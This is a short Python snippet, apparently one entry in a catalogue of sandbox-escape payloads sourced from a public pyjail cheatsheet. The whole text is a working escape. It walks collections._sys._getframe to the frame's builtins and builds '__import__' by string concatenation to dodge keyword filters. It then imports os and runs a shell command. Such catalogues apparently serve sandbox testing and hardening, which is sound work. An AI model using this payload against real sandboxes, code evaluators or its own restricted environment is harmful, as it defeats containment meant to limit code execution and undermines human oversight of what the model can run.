# Source: github.com/Shirajuki/shirajuki.github.io pyjail-cheatsheet (retrieving builtins); collections._sys._getframe payload in public sandbox reviews
# Family: frame
# What: collections._sys._getframe(0).f_builtins with the dunder name split by concatenation
import collections
fr = collections._sys._getframe(0)
imp = fr.f_builtins["__imp" + "ort__"]
imp("os").system("id")
